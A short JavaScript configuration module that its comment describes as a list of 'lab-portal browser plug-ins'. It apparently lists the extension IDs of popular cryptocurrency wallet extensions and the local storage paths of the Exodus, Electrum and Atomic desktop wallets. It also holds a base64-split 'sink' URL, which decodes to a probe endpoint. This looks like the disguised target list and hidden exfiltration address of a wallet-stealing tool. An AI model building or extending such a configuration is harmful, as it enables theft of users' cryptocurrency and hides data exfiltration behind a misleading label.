// Known frame-tracer / lab-portal browser plug-ins, by extension id.
// (Kept as a table so new lab plug-ins can be added without code changes.)
module.exports = {
  plugins: [
    'nkbihfbeogaeaoehlefnkodbefgpgknn',
    'bfnaelmomeimhlpmgjnjophhpkkoljpa',
    'hnfanknocfeofbddgcijnmhnfnkdnaad',
    'ejbalbakoplchlghecdalmeeeajnimhm',
    'fhbohimaelbohpjbbldcngcnapndodjp'
  ],
  apps: ['Exodus/exodus.wallet', 'Electrum/wallets', 'atomic/Local Storage/leveldb'],
  sink: ['aHR0cHM6Ly9sYWJsaW5r', 'LXByb2JlLmV4YW1wbGUv', 'djEvY29tcGF0']
};
